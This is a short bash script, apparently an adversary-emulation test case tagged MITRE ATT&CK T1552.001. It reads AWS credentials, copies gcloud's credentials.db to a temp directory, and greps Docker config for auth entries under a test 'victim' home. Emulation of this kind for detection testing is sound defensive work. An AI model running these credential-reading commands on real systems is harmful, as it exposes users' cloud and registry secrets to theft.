#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1552.001
# tactic: credential-access
# what: read cloud and registry credentials: ~/.aws/credentials, gcloud's credentials.db, ~/.docker/config.json
. "$AT_LIB"
cat "$AT_VICTIM_HOME/.aws/credentials" >/dev/null
cp "$AT_VICTIM_HOME/.config/gcloud/credentials.db" "$AT_TMP/"
grep auth "$AT_VICTIM_HOME/.docker/config.json" >/dev/null
